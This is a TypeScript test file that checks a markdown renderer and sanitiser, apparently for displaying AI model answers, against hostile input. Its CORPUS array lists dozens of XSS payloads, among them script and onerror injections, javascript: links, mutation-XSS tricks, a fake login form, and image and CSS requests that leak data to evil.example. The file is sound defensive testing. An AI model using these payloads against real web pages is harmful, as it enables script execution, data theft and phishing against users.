/** Attacks on the way from model text to the document. Each must leave nothing that runs, loads or imitates. */

import { beforeEach, describe, expect, it, vi } from 'vitest';
import { enhance } from '../src/markdown/enhance';
import { renderMarkdown } from '../src/markdown/render';
import { sanitizeHighlighted, sanitizeMarkdown } from '../src/markdown/sanitize';

const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/leak">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](https://evil.example/leak.png)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://a.example/"onerror="alert(1))',
  '[a](https://a.example "t\\" onmouseover=\\"alert(1)")',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '```"onmouseover=alert(1)\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '<style>*{background:url(https://evil.example/leak)}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<video src="https://evil.example/x" autoplay></video><audio src="https://evil.example/y">',
  '<div id="app" class="shell" data-copy role="alert" aria-label="System">x</div>',
  '<a id=location name=location href=https://a.example>clobber</a>',
  '<span class="button primary">Sign in again</span>',
  '<kbd onclick=alert(1)>x</kbd><br onload=alert(1)>',
  '<br/><script>alert(1)</script>',
  '$<img src=x onerror=alert(1)>$',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlClass{button}{x}\\htmlStyle{position:fixed}{y}\\htmlData{copy=1}{z}$',
  `$${'\\def\\a{\\a\\a}\\a'}$`,
  '<x><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;',
  '<!--><img src=x onerror=alert(1)>-->',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<ſcript>alert(1)</ſcript>',
  `${'> '.repeat(200)}<img src=x onerror=alert(1)>`,
  `${'<div>'.repeat(200)}<img src=x onerror=alert(1)>`,
];

const ALLOWED = new Set(
  ('a blockquote br code del div em figure figcaption button h3 h4 h5 h6 hr kbd li mark ol p pre span strong sub sup '
    + 'table tbody td th thead tr ul').split(' '),
);
const ALLOWED_ATTRIBUTES = new Set(
  'align class href start title target rel tabindex type data-copy'.split(' '),
);

/** Everything that may be in the document before formulas are set. */
function expectHarmless(root: Element): void {
  for (const element of root.querySelectorAll('*')) {
    expect(ALLOWED, element.outerHTML).toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(ALLOWED_ATTRIBUTES, `${element.localName} ${name}`).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      if (name === 'class') expect(value).toMatch(/^(math|math display|language-[\w+#.-]+|code|table-frame)$/);
    }
  }
  // Our own button and frame are the only things with these names.
  for (const button of root.querySelectorAll('button')) expect(button.closest('figure.code')).not.toBeNull();
}

describe('a hostile answer', () => {
  const alert = vi.fn();
  beforeEach(() => {
    vi.stubGlobal('alert', alert);
    alert.mockClear();
  });

  it.each(CORPUS.map((source) => [source.slice(0, 60), source]))('%j', async (_, source) => {
    const root = document.createElement('div');
    document.body.replaceChildren(root);
    root.append(renderMarkdown(source));
    expectHarmless(root);
    await enhance(root);
    expect(root.querySelector('script, img, iframe, form, input, style, link, [onerror], [onclick], [onload]')).toBeNull();
    for (const link of root.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
    expect(alert).not.toHaveBeenCalled();
  });

  it('can not get past the sanitiser even if the renderer let it through', () => {
    for (const source of CORPUS) {
      const root = document.createElement('div');
      root.append(sanitizeMarkdown(source));
      expectHarmless(root);
      root.replaceChildren(sanitizeHighlighted(source));
      for (const element of root.querySelectorAll('*')) expect(element.localName).toBe('span');
    }
  });

  it('does not take long, however it is nested', () => {
    const nasty = ['*'.repeat(20_000), '['.repeat(5_000), '$'.repeat(20_000), '\\('.repeat(5_000), '|'.repeat(5_000) + '\n' + '|-'.repeat(5_000)];
    for (const source of nasty) expect(renderMarkdown(source).textContent.length).toBeGreaterThanOrEqual(0);
  }, 15_000);
});
